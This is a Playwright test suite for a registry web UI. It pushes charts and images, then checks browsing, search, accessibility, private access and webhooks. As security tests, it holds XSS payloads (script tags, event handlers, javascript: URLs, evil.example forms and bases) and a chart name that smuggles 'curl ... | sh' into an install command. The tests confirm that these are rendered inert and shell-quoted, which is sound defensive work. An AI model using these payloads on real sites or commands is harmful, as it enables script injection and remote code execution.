"""The web UI in real headless Chromium, against a real ``ocicat serve`` fed by a real registry.

Charts are pushed with real Helm, images with plain OCI uploads; the tests
then find them the way a person would (browse, search, follow links), and
check what each page shows. Every page is screenshotted into
``OCICAT_TEST_ARTIFACTS`` (default ``test-artifacts/``) to be looked at.
"""

from __future__ import annotations

import json
import re
import shlex
import uuid

import pytest

# Playwright drives Debian's Chromium (harness/browser.py): a missing package fails the run, never skips the UI.
from playwright.sync_api import expect

from harness.helm import helm_push, make_chart
from harness.oci import push_artifact, push_chart, push_image, push_index
from harness.processes import wait_until
from harness.webhooks import Receiver
from ocicat import accounts
from ocicat.catalog import visibility
from ocicat.oci.media_types import OCI_MANIFEST

from .pages import ICON_URL, shoot
from .stack import start_stack, stop_stack

IMAGE_CONFIG = "application/vnd.oci.image.config.v1+json"

README = """# Web application

A **demo** chart for the UI tests.

## Installing

Run `helm install` and see [the docs](https://docs.example/webapp).

| Parameter | Default |
|-----------|---------|
| replicaCount | 1 |
"""
VALUES = """# Default values for webapp.
replicaCount: 1
image:
  repository: nginx
  tag: "1.25"   # pinned
service:
  enabled: true
"""
SCHEMA = {"$schema": "https://json-schema.org/draft-07/schema#", "type": "object",
          "properties": {"replicaCount": {"type": "integer", "minimum": 1}}}

# Hostile chart content: each payload would run script, load something, or navigate, if it were trusted.
PAYLOAD = "window.__pwned = (window.__pwned || 0) + 1; alert('pwned')"
HOSTILE_README = f"""# Evil <script>{PAYLOAD}</script>

<img src=x onerror="{PAYLOAD}"> <svg onload="{PAYLOAD}"></svg>
<iframe src="javascript:{PAYLOAD}"></iframe> <a href="javascript:{PAYLOAD}">click me</a>
[markdown link](javascript:alert(1)) <a href="/ui/sign-in">relative</a> <a href="data:text/html,<script>{PAYLOAD}</script>">data</a>
<form action="https://evil.example/"><input name=x><button>go</button></form>
<img src="http://tracker.example/pixel.gif"> <div style="position:fixed;inset:0" onclick="{PAYLOAD}">overlay</div>
<object data="https://evil.example/x.swf"></object><style>body{{display:none}}</style><base href="https://evil.example/">
<math><mi xlink:href="javascript:alert(1)">x</mi></math> <details open ontoggle="{PAYLOAD}"><summary>s</summary></details>
"""
HOSTILE_TEXT = f"<script>{PAYLOAD}</script><img src=x onerror=\"{PAYLOAD}\">"
HOSTILE_VALUES = f"""# </code><script>{PAYLOAD}</script>
evil: "<img src=x onerror={PAYLOAD}>"
"<b>key</b>": javascript:alert(1)
"""


INJECTED_NAME = "x\ncurl -s https://evil.example/p | sh\n#"


@pytest.fixture(scope="module")
def catalog(stack, tmp_path_factory):
    """What the tests look for, pushed for real: two chart versions, a hostile chart, an image family."""
    work = tmp_path_factory.mktemp("ui-charts")
    ns = f"ui{uuid.uuid4().hex[:8]}"
    common = dict(description="Web application for the UI tests", keywords=["web", f"{ns}word"],
                  home="https://example.com/webapp", sources=["https://git.example/webapp"], icon=ICON_URL,
                  maintainers=[{"name": "Jane Doe", "email": "jane@example.com", "url": "https://jane.example"}],
                  dependencies=[{"name": "redis", "version": "17.x.x", "repository": "oci://registry.example/charts"}],
                  annotations={"category": "Demo"}, kubeVersion=">=1.25.0-0")
    files = {"README.md": README, "values.yaml": VALUES, "values.schema.json": json.dumps(SCHEMA),
             "charts/redis/Chart.yaml": "apiVersion: v2\nname: redis\nversion: 17.3.0\n"}
    for version, app in (("1.2.3", "2.0.1"), ("1.3.0", "2.1.0")):
        helm_push(make_chart(work, "webapp", version, app_version=app, files=files, **common), stack.registry, f"{ns}/charts")
    hostile = make_chart(
        work, "evil", "6.6.6", app_version=HOSTILE_TEXT, description=f"Totally normal {HOSTILE_TEXT}",
        files={"README.md": HOSTILE_README, "values.yaml": HOSTILE_VALUES},
        home=f"javascript:{PAYLOAD}", sources=[f"javascript:{PAYLOAD}"], icon=f"javascript:{PAYLOAD}",
        keywords=[HOSTILE_TEXT], annotations={"evil": HOSTILE_TEXT},
        maintainers=[{"name": HOSTILE_TEXT, "email": "x@example.com", "url": f"javascript:{PAYLOAD}"}])
    helm_push(hostile, stack.registry, f"{ns}/charts")
    # Helm refuses to create or load a chart named so; a plain OCI push has no such scruple.
    push_chart(stack.registry.url, f"{ns}/charts/inject", "1.0.0", "1.0.0", name=INJECTED_NAME)

    images = f"{ns}/images/api"
    amd = push_image(stack.registry.url, images, "1.0", seed=f"{ns}-amd")
    config = json.dumps({"os": "linux", "architecture": "arm64", "variant": "v8", "config": {"Labels": {"team": "ui"}},
                         "rootfs": {"type": "layers", "diff_ids": []}}).encode()
    arm = push_artifact(stack.registry.url, images, "1.0-arm64", config=(IMAGE_CONFIG, config),
                        layers=[("application/vnd.oci.image.layer.v1.tar+gzip", b"arm layer")])
    push_index(stack.registry.url, images, "multi", [
        {"mediaType": OCI_MANIFEST, "digest": amd, "size": 1, "platform": {"os": "linux", "architecture": "amd64"}},
        {"mediaType": OCI_MANIFEST, "digest": arm, "size": 1,
         "platform": {"os": "linux", "architecture": "arm64", "variant": "v8"}}])
    push_artifact(stack.registry.url, images, f"sha256-{amd.split(':')[1]}.sig",
                  layers=[("application/vnd.dev.cosign.simplesigning.v1+json", b"{}")])
    push_artifact(stack.registry.url, images, None, artifact_type="application/spdx+json",
                  layers=[("application/spdx+json", b"{}")], subject=amd)

    def indexed():
        tags = stack.tags(images)
        return (len(stack.tags(f"{ns}/charts/webapp")) == 2 and stack.tags(f"{ns}/charts/evil")
                and stack.tags(f"{ns}/charts/inject")
                and {"1.0", "1.0-arm64", "multi"} <= set(tags) and tags["1.0"]["signed"] and tags["1.0"]["has_sbom"])

    wait_until(indexed, timeout=60, what="the UI catalog")
    return {"ns": ns, "chart": f"{ns}/charts/webapp", "evil": f"{ns}/charts/evil", "inject": f"{ns}/charts/inject",
            "image": images, "amd": amd}


def follow_pages_to(page, link_name: str, pages: int = 20):
    """Click "Next page" until a link named ``link_name`` shows (the top level holds every test's namespaces)."""
    for _ in range(pages):
        link = page.get_by_role("link", name=link_name, exact=True)
        if link.count():
            return link
        page.get_by_role("link", name="Next page").first.click()
        page.wait_for_load_state()
        expect(page.locator("main")).to_have_attribute("aria-busy", "false")
    raise AssertionError(f"no link {link_name!r} within {pages} pages")


def test_browse_to_a_pushed_chart_and_see_everything_helm_knows(open_page, stack, catalog, tmp_path):
    page, watch = open_page("/")
    expect(page).to_have_url(re.compile(r"/ui/$"))
    shoot(page, "browse-top")
    follow_pages_to(page, catalog["ns"]).click()
    expect(page).to_have_url(re.compile(f"/ui/namespaces/{catalog['ns']}$"))
    expect(page.get_by_role("heading", level=1)).to_have_text(catalog["ns"])
    page.get_by_role("link", name="charts", exact=True).click()
    expect(page.get_by_role("heading", level=1)).to_have_text(f"{catalog['ns']}/charts")
    shoot(page, "browse-namespace")
    page.get_by_role("link", name=catalog["chart"]).click()

    expect(page).to_have_url(re.compile(f"/ui/repositories/{catalog['chart']}$"))
    rows = page.locator("table.rows tbody tr")
    expect(rows).to_have_count(2)
    first = rows.filter(has_text="1.2.3")
    expect(first).to_contain_text("helm-chart")
    expect(first).to_contain_text("app 2.0.1")
    expect(first.locator("time")).to_have_attribute("datetime", re.compile(r"^\d{4}-"))
    shoot(page, "repository-chart")
    page.get_by_role("link", name="1.2.3", exact=True).click()

    expect(page).to_have_url(re.compile(f"/ui/charts/{catalog['chart']}/1.2.3$"))
    main = page.locator("main")
    expect(page.get_by_role("heading", level=1)).to_have_text("webapp 1.2.3")
    expect(main.locator(".description")).to_have_text("Web application for the UI tests")
    expect(main).to_contain_text("app version 2.0.1")
    about = page.locator("#about")
    for text in ("2.0.1", "application", ">=1.25.0-0", "Jane Doe", "<jane@example.com>", "redis", "17.x.x", "category", "Demo"):
        expect(about).to_contain_text(text)
    expect(about.get_by_role("link", name="https://example.com/webapp")).to_have_attribute("rel", "noopener nofollow")
    expect(about.get_by_role("link", name="https://git.example/webapp")).to_be_visible()
    expect(about.get_by_role("link", name=f"{catalog['ns']}word")).to_have_attribute(
        "href", f"/ui/search?q={catalog['ns']}word")
    icon = main.locator("img.icon")
    expect(icon).to_have_attribute("src", ICON_URL)
    assert page.evaluate("document.querySelector('img.icon').naturalWidth") == 1  # served by the test, offline

    readme = page.locator("#readme .readme")
    expect(readme.get_by_role("heading", name="Installing")).to_be_visible()
    expect(readme.locator("strong")).to_have_text("demo")
    expect(readme.locator("table td").first).to_have_text("replicaCount")
    expect(readme.get_by_role("link", name="the docs")).to_have_attribute("rel", "noopener nofollow")
    values = page.locator("#values code.yaml")
    expect(values).to_have_text(VALUES)
    expect(values.locator(".tok-key").first).to_have_text("replicaCount:")
    expect(values.locator(".tok-comment").first).to_have_text("# Default values for webapp.")
    expect(values.locator(".tok-string")).to_have_text('"1.25"')
    assert json.loads(page.locator("#schema pre").text_content()) == SCHEMA

    reference = f"oci://{stack.registry.host}/{catalog['chart']}:1.2.3"
    pull = page.locator(".command pre").first
    expect(pull).to_have_text(f"helm pull {reference}")
    expect(page.locator(".command pre").nth(1)).to_have_text(f"helm install webapp {reference}")
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.get_by_role("button", name="Copy the pull command").click()
    expect(page.locator(".copy-status").first).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == f"helm pull {reference}"
    import helm_python as helm

    helm.pull(pull.text_content().split()[-1], destination=tmp_path, plain_http=True)  # the command works as shown
    assert (tmp_path / "webapp-1.2.3.tgz").exists()
    # Beside it, the classic Helm repository of the chart's namespace, which Helm reads as shown.
    add = page.locator(".command", has_text="helm repo add").locator("code")
    expect(add).to_have_text(f"helm repo add charts {stack.api}/helm/{catalog['ns']}/charts")
    assert "1.2.3" in [v["version"] for v in helm.repo_index(add.text_content().split()[-1])["entries"]["webapp"]]

    versions = page.locator("#versions li")
    expect(versions).to_have_count(2)
    expect(versions.first).to_contain_text("1.3.0")  # newest first
    expect(versions.filter(has_text="1.2.3").locator("[aria-current=page]")).to_have_text("1.2.3")
    shoot(page, "chart")
    page.get_by_role("link", name="1.3.0", exact=True).click()
    expect(page.get_by_role("heading", level=1)).to_have_text("webapp 1.3.0")
    expect(main).to_contain_text("app version 2.1.0")
    assert watch.refused == []
    watch.assert_quiet()


def test_search_finds_the_image_and_its_page_shows_platforms_layers_labels_and_attachments(open_page, catalog):
    page, watch = open_page("/ui/search")
    page.get_by_label("Search", exact=True).fill("api")
    page.get_by_label("Kind").select_option("index")
    page.get_by_label("Search", exact=True).press("Enter")
    expect(page).to_have_url(re.compile(r"/ui/search\?q=api&kind=index$"))
    # Narrow to this test's namespace through the namespace facet, keeping the kind.
    page.locator(".facet", has_text="Namespace").get_by_role("link", name=f"{catalog['ns']}/images").click()
    expect(page).to_have_url(re.compile(f"kind=index&namespace={catalog['ns']}%2Fimages$"))
    hits = page.locator(".hit")
    expect(hits).to_have_count(1)
    expect(hits.first).to_contain_text("image")
    expect(hits.first).to_contain_text("index")
    kind_facet = page.locator(".facet", has_text="Kind")
    expect(kind_facet.locator("[aria-current=true]")).to_have_text("index 1")
    expect(kind_facet.get_by_role("link", name=re.compile(r"^image"))).to_have_text("image 1")
    shoot(page, "search")
    hits.first.get_by_role("link", name=catalog["image"]).click()

    expect(page).to_have_url(re.compile(f"/ui/repositories/{catalog['image']}$"))
    rows = page.locator("table.rows tbody tr")
    expect(rows).to_have_count(3)  # the signature and the SBOM are shown on their subject, not as tags
    plain = rows.filter(has=page.get_by_role("link", name="1.0", exact=True))
    expect(plain).to_contain_text("linux/amd64")
    expect(plain.locator(".badge-signed")).to_have_text("signed")
    expect(plain.locator(".badge-sbom")).to_have_text("SBOM")
    multi = rows.filter(has=page.get_by_role("link", name="multi", exact=True))
    expect(multi).to_contain_text("linux/arm64/v8")
    expect(multi).to_contain_text("index")
    shoot(page, "repository-image")
    multi.get_by_role("link", name="multi").click()

    platforms = page.locator("#platforms tbody tr")
    expect(platforms).to_have_count(2)
    expect(platforms.nth(1)).to_contain_text("linux/arm64/v8")
    shoot(page, "index")
    platforms.first.get_by_role("link").click()
    expect(page).to_have_url(re.compile(f"/-/manifests/{catalog['amd']}$"))
    expect(page.get_by_role("heading", level=1)).to_have_text(f"{catalog['image']}:1.0")
    layers = page.locator("#layers tbody tr")
    expect(layers).to_have_count(1)
    expect(layers.first).to_contain_text("application/vnd.oci.image.layer.v1.tar+gzip")
    expect(layers.first).to_contain_text(" B")
    expect(page.locator("#config")).to_contain_text("linux/amd64")
    expect(page.locator("table.pairs", has_text="Labels")).to_contain_text(f"{catalog['ns']}-amd")
    attachments = page.locator("#attachments tbody tr")
    expect(attachments).to_have_count(2)
    expect(attachments.filter(has_text="signature")).to_have_count(1)
    expect(attachments.filter(has_text="application/spdx+json")).to_contain_text("sbom")
    shoot(page, "image")
    assert watch.refused == []
    watch.assert_quiet()


def test_hostile_chart_content_runs_nothing_and_the_policy_holds(open_page, catalog):
    page, watch = open_page(f"/ui/charts/{catalog['evil']}/6.6.6")
    main = page.locator("main")
    expect(page.get_by_role("heading", level=1)).to_have_text("evil 6.6.6")
    # Shown as the text it is, never as markup.
    expect(main.locator(".description")).to_have_text(f"Totally normal {HOSTILE_TEXT}")
    expect(main).to_contain_text(f"app version {HOSTILE_TEXT}")
    expect(page.locator("#about")).to_contain_text(HOSTILE_TEXT)  # annotation, keyword, maintainer
    expect(page.locator("#values code")).to_have_text(HOSTILE_VALUES)
    expect(page.locator("#readme h3")).to_have_text("Evil")  # the README's h1, below the page's h1 and h2
    readme = page.locator("#readme .readme")
    expect(readme.get_by_text("click me")).to_be_visible()
    shoot(page, "chart-hostile")

    found = page.evaluate("""() => {
      const all = [...document.querySelectorAll('*')];
      return {
        scripts: [...document.scripts].map((s) => s.src),
        handlers: all.flatMap((e) => [...e.attributes].filter((a) => a.name.startsWith('on')).map((a) => a.name)),
        urls: all.flatMap((e) => ['href', 'src', 'action', 'data', 'xlink:href'].map((n) => e.getAttribute(n)))
          .filter((v) => v && !/^(https?:|mailto:|\\/|#)/.test(v)),
        forbidden: document.querySelectorAll('main iframe, main object, main form, main style, main svg, base, main [style]').length,
        images: [...document.querySelectorAll('main img')].map((i) => i.getAttribute('src')),
      };
    }""")
    assert all(re.search(r"/ui/static/[\w/-]+\.js$", src) for src in found["scripts"]), found["scripts"]
    assert found["handlers"] == [] and found["urls"] == [] and found["forbidden"] == 0, found
    assert set(found["images"]) <= {None}, found["images"]  # neither the javascript: icon nor http: or relative images
    readme.get_by_text("click me").click()
    readme.get_by_text("overlay").click()
    # The clicks' handlers, had any survived, have run once the page has painted a frame and run a task after them.
    page.evaluate("() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 0)))")
    expect(page).to_have_url(re.compile(f"/ui/charts/{catalog['evil']}/6.6.6$"))
    assert page.evaluate("window.__pwned") is None
    assert watch.refused == []  # nothing reached for tracker.example or evil.example
    watch.assert_quiet()

    response = page.request.get(page.url)
    policy = dict(d.strip().split(" ", 1) for d in response.headers["content-security-policy"].split(";"))
    assert policy["default-src"] == "'self'" and policy["script-src"] == "'self'"
    assert policy["frame-ancestors"] == "'none'" and policy["object-src"] == "'none'"
    assert policy["img-src"] == "'self' https:" and policy["require-trusted-types-for"] == "'script'"
    assert "unsafe" not in response.headers["content-security-policy"]
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"


def test_a_copied_command_runs_no_more_than_it_says_whatever_the_chart_is_called(open_page, catalog):
    """The install command used to put the chart's name in unquoted: this one's name put a pipeline to sh on the
    clipboard. Every word is quoted for the shell now, and the chart says what Helm makes of its name."""
    page, watch = open_page(f"/ui/charts/{catalog['inject']}/1.0.0")
    commands = page.locator(".command", has_text="helm install").locator("code")
    expect(commands).to_have_count(2)
    install, from_repository = commands.all()
    words = shlex.split(install.text_content())
    assert words[:3] == ["helm", "install", INJECTED_NAME] and len(words) == 4 and words[3].startswith("oci://")
    assert shlex.split(from_repository.text_content()) == ["helm", "install", INJECTED_NAME,
                                                            f"charts/{INJECTED_NAME}", "--version", "1.0.0"]
    assert shlex.split(page.locator(".command", has_text="pull").locator("code").text_content())[:2] == ["helm", "pull"]
    expect(page.get_by_role("list", name="Warnings")).to_contain_text("Helm refuses to load a chart named so")
    watch.assert_quiet()


def test_what_a_sanitizer_slip_would_let_through_the_browser_still_refuses(open_page, catalog):
    """Defence in depth: markup reaching the page unsanitized (faked here by editing the API's answer
    in the browser) cannot run, and no code path can hand the DOM markup but the README's."""
    page, watch = open_page("/ui/")
    slipped = f'<img src="/missing.png" onerror="{PAYLOAD}"><a href="javascript:{PAYLOAD}">slipped</a><script>{PAYLOAD}</script>'

    def unsanitized(route):
        body = route.fetch().json()
        body["readme_html"] = slipped
        route.fulfill(json=body)

    page.route("**/api/v1/charts/*/charts/webapp/-/versions/1.2.3", unsanitized)
    page.goto(f"/ui/charts/{catalog['chart']}/1.2.3")
    expect(page.locator("#readme").get_by_text("slipped")).to_be_visible()
    page.locator("#readme").get_by_text("slipped").click()
    wait_until(lambda: watch.violations(), timeout=60, what="the policy to refuse the handler")
    assert page.evaluate("window.__pwned") is None and watch.dialogs == []
    assert {v["directive"] for v in watch.violations()} >= {"script-src-attr"}

    attempts = page.evaluate("""() => {
      const results = {};
      const attempt = (name, f) => { try { f(); results[name] = 'allowed'; } catch (e) { results[name] = e.name; } };
      attempt('html', () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.__pwned = 1">'));
      attempt('script', () => { const s = document.createElement('script'); s.textContent = 'window.__pwned = 2'; document.body.append(s); });
      attempt('handler', () => document.body.setAttribute('onclick', 'window.__pwned = 3'));
      attempt('policy', () => trustedTypes.createPolicy('another', { createHTML: (s) => s }));
      return results;
    }""")
    # (eval is not tried: code run through the debugging protocol is exempt; the header check shows no unsafe-eval)
    assert attempts == {"html": "TypeError", "script": "TypeError", "handler": "TypeError", "policy": "TypeError"}, attempts
    page.locator("body").click()
    assert page.evaluate("window.__pwned") is None
    assert {"require-trusted-types-for", "trusted-types"} <= {v["directive"] for v in watch.violations()}


def test_every_page_is_a_deep_link_that_survives_reload_back_and_forward(open_page, catalog):
    page, watch = open_page(f"/ui/repositories/{catalog['chart']}?limit=1")
    rows = page.locator("table.rows tbody tr")
    expect(rows).to_have_count(1)
    expect(rows.first).to_contain_text("1.2.3")
    page.evaluate("window.__same_document = true")  # survives only client-side navigations
    page.get_by_role("link", name="Next page").click()
    expect(rows.first).to_contain_text("1.3.0")
    expect(page).to_have_url(re.compile(r"\?limit=1&cursor=[\w-]+$"))
    expect(page.get_by_role("link", name="Next page")).to_have_count(0)
    page.get_by_role("link", name="1.3.0", exact=True).click()
    expect(page.get_by_role("heading", level=1)).to_have_text("webapp 1.3.0")
    assert page.evaluate("window.__same_document") is True
    expect(page).to_have_title("webapp 1.3.0 · ocicat")

    page.reload()
    expect(page.get_by_role("heading", level=1)).to_have_text("webapp 1.3.0")
    page.go_back()
    expect(rows.first).to_contain_text("1.3.0")
    page.go_back()
    expect(rows.first).to_contain_text("1.2.3")
    page.go_forward()
    expect(rows.first).to_contain_text("1.3.0")

    page.goto(f"/ui/charts/{catalog['chart']}/9.9.9")
    expect(page.get_by_role("heading", level=1)).to_have_text("Not found")
    expect(page.locator(".problem")).to_contain_text("has no version '9.9.9'")
    page.goto("/ui/nowhere")
    assert page.evaluate("document.contentType") == "application/problem+json"
    watch.errors = [e for e in watch.errors if "404" not in e]  # the browser logs the two 404 answers
    watch.assert_quiet()


def test_keyboard_alone_reaches_search_results_and_focus_is_visible(open_page, catalog):
    page, watch = open_page(f"/ui/namespaces/{catalog['ns']}")
    expect(page.get_by_role("heading", level=1)).to_have_text(catalog["ns"])
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to content"
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    for _ in range(5):  # brand, Browse, Search, then the search field
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.id") == "quick-q":
            break
    assert page.evaluate("document.activeElement.labels[0].textContent") == "Search the catalog"
    page.keyboard.type(f"{catalog['ns']}word")
    page.keyboard.press("Enter")
    expect(page).to_have_url(re.compile(rf"/ui/search\?q={catalog['ns']}word$"))
    link = page.locator(".hit a").first
    expect(link).to_have_text(catalog["chart"])
    for _ in range(40):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.closest('.hit') !== null"):
            break
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("webapp 1.3.0")
    watch.assert_quiet()


@pytest.mark.parametrize("name,path", [
    ("chart", "/ui/charts/{chart}/1.2.3"), ("repository", "/ui/repositories/{image}"),
    ("image", "/ui/repositories/{image}/-/manifests/{amd}"), ("search", "/ui/search?q=webapp"),
    ("browse", "/ui/namespaces/{ns}/charts"),
])
def test_a_narrow_screen_needs_no_sideways_scrolling(open_page, catalog, name, path):
    page, watch = open_page(path.format(**catalog), width=360, height=760)
    expect(page.locator("main")).to_have_attribute("aria-busy", "false")
    expect(page.locator("main h1")).to_be_visible()
    page.wait_for_load_state("networkidle")
    width = page.evaluate("[document.documentElement.scrollWidth, document.documentElement.clientWidth]")
    shoot(page, f"narrow-{name}")
    assert width[0] <= width[1], f"{name}: page is {width[0]} px wide on a {width[1]} px screen"
    watch.assert_quiet()


@pytest.fixture(scope="module")
def private_stack(make_database, tmp_path_factory):
    """A private catalog (OCICAT_DEFAULT_VISIBILITY=private) on a real ``ocicat serve``: one chart in a private
    namespace, one image in a public one, and a reporter on the private namespace with a real API token."""
    running = start_stack(make_database, tmp_path_factory.mktemp("private-ui"), OCICAT_DEFAULT_VISIBILITY="private",
                          OCICAT_DELIVERY_ALLOW="127.0.0.1")  # the subscriptions page's receiver
    try:
        ns = f"ui{uuid.uuid4().hex[:6]}"
        secret_chart, open_image = f"{ns}/private/vault", f"{ns}/open/gateway"
        helm_push(make_chart(tmp_path_factory.mktemp("vault"), "vault", "2.1.0", description="Where secrets live"),
                  running.registry, f"{ns}/private")
        push_image(running.registry.url, open_image, "1.0", seed="gateway")
        with running.db.transaction() as cur:
            visibility.set_rule(cur, f"{ns}/open", True)
            accounts.create_user(cur, f"reporter-{ns}")
            accounts.grant(cur, f"reporter-{ns}", f"{ns}/private", "reporter")
            _, token = accounts.create_token(cur, f"reporter-{ns}")
        def indexed() -> bool:
            with running.db.transaction() as cur:
                cur.execute("SELECT count(*) AS n FROM repositories WHERE name LIKE %s AND manifest_count > 0",
                            (f"{ns}/%",))
                return cur.fetchone()["n"] == 2

        wait_until(indexed, timeout=60, what="the private UI catalog")
        yield {"stack": running, "ns": ns, "chart": secret_chart, "image": open_image, "token": token,
               "user": f"reporter-{ns}"}
    finally:
        stop_stack(running)


def _search(page, text: str):
    page.goto(f"/ui/search?q={text}")
    expect(page.locator("main")).to_have_attribute("aria-busy", "false")
    return page.locator(".hit")


def test_a_private_repository_stays_invisible_until_signing_in_with_a_reporters_token(open_page, private_stack):
    base, chart = private_stack["stack"].api, private_stack["chart"]
    page, watch = open_page(f"/ui/namespaces/{private_stack['ns']}", base=base)
    # anonymous: the public image is there, the private namespace and chart are not, not even by search or link
    expect(page.get_by_role("link", name="open", exact=True)).to_be_visible()  # child namespaces, by last part
    expect(page.get_by_role("link", name=private_stack["image"], exact=True)).to_be_visible()
    expect(page.get_by_role("link", name="private", exact=True)).to_have_count(0)
    expect(page.get_by_role("link", name=chart, exact=True)).to_have_count(0)
    expect(_search(page, "vault")).to_have_count(0)
    expect(_search(page, "gateway")).to_have_count(1)
    page.goto(f"/ui/charts/{chart}/2.1.0")
    expect(page.get_by_role("heading", level=1)).to_have_text("Not found")
    shoot(page, "private-anonymous", full_page=False)

    # a wrong token is refused at sign-in, and nothing is kept
    page.goto("/ui/sign-in")
    page.get_by_label("API token").fill("ocicat_1_" + "A" * 43)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("alert")).to_contain_text("refused")
    assert page.evaluate("sessionStorage.length") == 0

    # the reporter's real token: the chart appears in search and its page shows it
    sent = []
    page.on("request", lambda r: "/api/v1/" in r.url and sent.append(r.headers.get("authorization")))
    page.get_by_label("API token").fill(private_stack["token"])
    page.get_by_role("button", name="Sign in").click()
    expect(page.locator("#session")).to_contain_text(f"Signed in as {private_stack['user']}")
    hits = _search(page, "vault")
    expect(hits).to_have_count(1)
    hits.first.get_by_role("link", name=chart).click()
    expect(page).to_have_url(re.compile(f"/ui/charts/{chart}/2.1.0$"))
    expect(page.locator("main")).to_contain_text("Where secrets live")
    page.goto(f"/ui/namespaces/{private_stack['ns']}")
    expect(page.get_by_role("link", name="private", exact=True)).to_be_visible()
    assert sent and set(sent) == {f"Bearer {private_stack['token']}"}, sent
    shoot(page, "private-signed-in")

    # sign out: invisible again
    page.get_by_role("button", name="Sign out").click()
    expect(page.locator("#session")).to_have_text("Sign in")
    expect(_search(page, "vault")).to_have_count(0)
    watch.errors = [e for e in watch.errors if "401" not in e and "404" not in e]  # the browser logs refusals
    watch.assert_quiet()


def test_a_token_revoked_while_signed_in_is_dropped_and_said_so(open_page, private_stack):
    stack = private_stack["stack"]
    with stack.db.transaction() as cur:
        token_id, token = accounts.create_token(cur, private_stack["user"], "to revoke")
    page, watch = open_page("/ui/sign-in", base=stack.api)
    page.get_by_label("API token").fill(token)
    page.get_by_role("button", name="Sign in").click()
    expect(page.locator("#session")).to_contain_text("Signed in as")
    # Sign-in goes on to the browse page: its calls must be done before the token is revoked, or one of them
    # gets the 401 and the notice is gone with the reload below.
    expect(page.locator("main")).to_have_attribute("aria-busy", "false")
    with stack.db.transaction() as cur:
        accounts.revoke_token(cur, token_id)
    page.goto(f"/ui/repositories/{private_stack['chart']}")
    expect(page.locator("#notice")).to_contain_text("refused your token")
    expect(page.locator("#session")).to_have_text("Sign in")
    assert page.evaluate("sessionStorage.length") == 0
    shoot(page, "token-refused", full_page=False)
    watch.errors = [e for e in watch.errors if "401" not in e and "404" not in e]
    watch.assert_quiet()


def test_a_subscription_made_pinged_paused_and_deleted_in_the_ui(open_page, private_stack):
    hook = Receiver()
    try:
        page, watch = open_page("/ui/sign-in", base=private_stack["stack"].api)
        page.get_by_label("API token").fill(private_stack["token"])
        page.get_by_role("button", name="Sign in").click()
        page.get_by_role("link", name="Subscriptions").click()
        expect(page.get_by_role("heading", level=1)).to_have_text("Subscriptions")
        page.get_by_label("Name", exact=True).fill("team hook")
        page.get_by_label("Target URL").fill(hook.url)
        page.get_by_label("Namespace").fill(private_stack["ns"])
        page.get_by_role("button", name="Subscribe").click()
        expect(page.locator("#notice")).to_contain_text("whsec_")  # the secret, shown once
        card = page.get_by_role("region", name="team hook")
        expect(card).to_contain_text(f"namespace: {private_stack['ns']}")

        card.get_by_role("button", name="Send a ping").click()
        wait_until(lambda: any(b"dev.ocicat.ping" in r.body for r in hook.requests()), timeout=30, what="the ping")
        page.reload()
        expect(page.get_by_role("region", name="team hook").locator(".deliveries")).to_contain_text("delivered")
        shoot(page, "subscriptions")

        page.get_by_role("region", name="team hook").get_by_role("button", name="Pause").click()
        expect(page.get_by_role("region", name="team hook")).to_contain_text("paused")
        page.get_by_role("region", name="team hook").get_by_role("button", name="Delete").click()
        expect(page.locator("main")).to_contain_text("No subscriptions yet.")
        watch.assert_quiet()
    finally:
        hook.close()
